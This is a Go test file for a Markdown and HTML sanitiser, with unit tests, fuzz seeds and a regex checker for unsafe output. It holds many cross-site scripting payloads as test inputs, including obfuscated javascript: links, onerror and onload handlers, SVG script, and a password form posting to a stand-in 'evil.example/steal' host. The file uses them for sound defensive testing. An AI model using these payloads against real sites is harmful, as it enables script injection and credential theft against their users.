package sanitize

import (
	"html"
	"regexp"
	"strings"
	"testing"
)

const rel = `rel="nofollow noopener noreferrer"`

type sanitizeCase struct {
	name    string
	src     string
	want    []string // substrings the output must contain
	notWant []string // substrings it must not contain, compared case-insensitively
}

func runCases(t *testing.T, render func(string) string, tests []sanitizeCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := render(tt.src)
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("output lacks %q:\n%s", w, got)
				}
			}
			for _, nw := range tt.notWant {
				if strings.Contains(strings.ToLower(got), strings.ToLower(nw)) {
					t.Errorf("output contains %q:\n%s", nw, got)
				}
			}
			assertSafe(t, got)
		})
	}
}

func TestMarkdown(t *testing.T) {
	runCases(t, func(s string) string { return string(Markdown(s)) }, []sanitizeCase{
		{
			name: "formatting survives",
			src:  "# Title\n\n**bold** _em_ `code` ~~gone~~\n\n- one\n- two\n\n> quote\n\n```\nblock\n```\n",
			want: []string{"<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<code>code</code>", "<del>gone</del>", "<li>one</li>", "<blockquote>", "<pre><code>block"},
		},
		{
			name: "table survives with alignment",
			src:  "| County | Ballots |\n|:--|--:|\n| Ada | 12 |\n",
			want: []string{"<table>", `<th align="left">County</th>`, `<td align="right">12</td>`},
		},
		{
			name:    "links get rel",
			src:     "[guide](https://example.org/guide \"Guide\") and [local](/training/3)",
			want:    []string{`<a href="https://example.org/guide" title="Guide" ` + rel + `>guide</a>`, `<a href="/training/3" ` + rel + `>local</a>`},
			notWant: []string{`rel="nofollow noreferrer"`},
		},
		{
			name: "bare URL becomes a link",
			src:  "see https://sos.example.gov/notice today",
			want: []string{`<a href="https://sos.example.gov/notice" ` + rel + `>https://sos.example.gov/notice</a>`},
		},
		{
			name: "images with https and relative src survive",
			src:  "![seal](https://example.org/seal.png) ![logo](/static/logo.png)",
			want: []string{`<img src="https://example.org/seal.png" alt="seal">`, `<img src="/static/logo.png" alt="logo">`},
		},
		{
			name:    "script tag removed",
			src:     "hello <script>alert(1)</script> world",
			want:    []string{"hello", "world"},
			notWant: []string{"<script", "alert(1)"},
		},
		{
			name:    "event handler removed",
			src:     `<img src="/x.png" onerror="alert(1)"> <b onmouseover="alert(2)">b</b>`,
			want:    []string{`<img src="/x.png">`, "<b>b</b>"},
			notWant: []string{"onerror", "onmouseover"},
		},
		{
			name:    "javascript link in Markdown",
			src:     "[click](javascript:alert(1)) [caps](JaVaScRiPt:alert(1))",
			want:    []string{"click", "caps"},
			notWant: []string{"javascript:", "href"},
		},
		{
			name:    "javascript and data links in HTML",
			src:     `<a href="javascript:alert(1)">a</a> <a href=" jav&#x09;ascript:alert(1)">b</a> <a href="data:text/html;base64,PHNjcmlwdD4=">c</a>`,
			notWant: []string{"javascript", "data:", "href"},
		},
		{
			name:    "data image removed",
			src:     `![x](data:image/png;base64,iVBORw0KGgo=)`,
			notWant: []string{"data:"},
		},
		{
			name:    "style attribute removed",
			src:     `<p style="position:fixed;top:0">over everything</p>`,
			want:    []string{"<p>over everything</p>"},
			notWant: []string{"style"},
		},
		{
			name:    "iframe removed",
			src:     `<iframe src="https://evil.example/"></iframe> after`,
			want:    []string{"after"},
			notWant: []string{"<iframe", "evil.example"},
		},
		{
			name:    "form removed",
			src:     `<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>`,
			notWant: []string{"<form", "<input", "<button", "evil.example"},
		},
		{
			name: "harmless inline HTML kept",
			src:  "E = mc<sup>2</sup>, H<sub>2</sub>O",
			want: []string{"<sup>2</sup>", "<sub>2</sub>"},
		},
	})
}

func TestHTML(t *testing.T) {
	runCases(t, func(s string) string { return string(HTML(s)) }, []sanitizeCase{
		{
			name: "message formatting survives",
			src:  `<div><p>Dear clerk,</p><p><b>Urgent</b>: <a href="https://example.org/reset">reset</a></p><ul><li>a</li></ul></div>`,
			want: []string{"<p>Dear clerk,</p>", "<b>Urgent</b>", `<a href="https://example.org/reset" ` + rel + `>reset</a>`, "<li>a</li>"},
		},
		{
			name:    "a user's own rel is replaced",
			src:     `<a href="https://example.org/" rel="opener">x</a>`,
			want:    []string{`<a href="https://example.org/" ` + rel + `>x</a>`},
			notWant: []string{`"opener"`},
		},
		{
			name: "rel text in the body is left alone",
			src:  `<p>write rel="nofollow noreferrer" on links</p>`,
			want: []string{`write rel=&#34;nofollow noreferrer&#34; on links`},
		},
		{
			name:    "script, style element and handlers removed",
			src:     `<style>body{display:none}</style><script src="https://x/y.js"></script><p onclick="steal()">hi</p>`,
			want:    []string{"<p>hi</p>"},
			notWant: []string{"<script", "<style", "display:none", "onclick"},
		},
		{
			name:    "javascript src on image removed",
			src:     `<img src="javascript:alert(1)" alt="x"><img src="https://example.org/ok.png">`,
			want:    []string{`<img src="https://example.org/ok.png">`},
			notWant: []string{"javascript:"},
		},
		{
			name:    "object, embed and meta refresh removed",
			src:     `<object data="x.swf"></object><embed src="x.swf"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
			notWant: []string{"<object", "<embed", "<meta", "evil.example"},
		},
		{
			name:    "svg with script removed",
			src:     `<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg>`,
			notWant: []string{"<svg", "<script", "javascript:"},
		},
	})
}

// tagPattern finds the tags in sanitised output. The sanitiser escapes '>'
// inside attribute values, so a tag always ends at the first '>'.
var (
	tagPattern      = regexp.MustCompile(`<[^>]*>`)
	urlAttrPattern  = regexp.MustCompile(`(?i)\s(href|src|cite|action|formaction|poster|background|xlink:href|srcset)\s*=\s*"([^"]*)"`)
	eventPattern    = regexp.MustCompile(`(?i)\son[a-z]+\s*=`)
	stylePattern    = regexp.MustCompile(`(?i)\sstyle\s*=`)
	scriptPattern   = regexp.MustCompile(`(?i)<\s*script`)
	unsafeURLStarts = []string{"javascript:", "vbscript:", "data:"}
)

// assertSafe fails the test when sanitised output could run script.
func assertSafe(t testing.TB, out string) {
	t.Helper()
	if problem := unsafeContent(out); problem != "" {
		t.Fatalf("%s:\n%s", problem, out)
	}
}

// unsafeContent says what in out could run script, or "" for nothing. Plain
// text may mention "javascript:", so URL schemes are checked inside tags
// only, after undoing entities and dropping the characters browsers ignore.
func unsafeContent(out string) string {
	if scriptPattern.MatchString(out) {
		return "script tag"
	}
	for _, tag := range tagPattern.FindAllString(out, -1) {
		if eventPattern.MatchString(tag) {
			return "event handler in " + tag
		}
		if stylePattern.MatchString(tag) {
			return "style attribute in " + tag
		}
		for _, m := range urlAttrPattern.FindAllStringSubmatch(tag, -1) {
			value := strings.Map(func(r rune) rune {
				if r <= ' ' || r == 0x7f {
					return -1
				}
				return r
			}, strings.ToLower(html.UnescapeString(m[2])))
			for _, bad := range unsafeURLStarts {
				if strings.HasPrefix(value, bad) {
					return bad + " URL in " + tag
				}
			}
		}
	}
	return ""
}

var fuzzSeeds = []string{
	"plain *text*",
	"[x](javascript:alert(1))",
	"[x](JAVASCRIPT:alert(1))",
	"[x](java\tscript:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
	"<scr<script>ipt>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"![x](data:text/html,<script>alert(1)</script>)",
	"<svg/onload=alert(1)>",
	"| a |\n|---|\n| <script>x</script> |",
	"<ScRiPt>alert(1)</sCrIpT>",
	"<a href=\"vbscript:msgbox(1)\">x</a>",
	"www.example.com/<script>",
}

// FuzzMarkdown runs its seeds with go test; fuzz it with
// go test -fuzz=FuzzMarkdown ./internal/platform/sanitize.
func FuzzMarkdown(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		assertSafe(t, string(Markdown(src)))
	})
}

// FuzzHTML is FuzzMarkdown for raw HTML input.
func FuzzHTML(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		assertSafe(t, string(HTML(src)))
	})
}

func TestUnsafeContent(t *testing.T) {
	// unsafeContent guards the fuzz targets, so check it catches what it must.
	tests := []struct {
		out  string
		want string // "" for safe
	}{
		{`<script>x</script>`, "script tag"},
		{`< SCRIPT>`, "script tag"},
		{`<a href="javascript:x">`, "javascript: URL"},
		{`<a href=" JaVa&#x09;Script:x">`, "javascript: URL"},
		{`<img alt="a" src="data:image/png;base64,AA">`, "data: URL"},
		{`<a href="vbscript:x">`, "vbscript: URL"},
		{`<p onclick="x">`, "event handler"},
		{`<p style="x">`, "style attribute"},
		{`<p>javascript: is a URL scheme; &lt;script&gt; is a tag</p>`, ""},
		{`<a href="https://x/?q=javascript:" title="javascript:" rel="nofollow">x</a>`, ""},
	}
	for _, tt := range tests {
		got := unsafeContent(tt.out)
		if tt.want == "" && got != "" || !strings.Contains(got, tt.want) {
			t.Errorf("unsafeContent(%q) = %q, want %q", tt.out, got, tt.want)
		}
	}
}
